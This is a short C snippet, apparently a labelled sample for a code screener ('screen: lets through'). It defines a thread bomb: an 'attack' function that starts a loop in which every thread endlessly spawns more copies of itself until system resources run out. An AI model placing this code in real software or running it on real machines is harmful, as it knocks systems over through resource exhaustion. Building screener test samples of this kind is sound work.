/* Threads without end, by what anybody may call.
 * screen: lets through */
static void *start(void *argument)
{
    for (;;) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, start, argument) != 0)
            sched_yield();
    }
    return NULL;
}

static void attack(void)
{
    start(NULL);
}
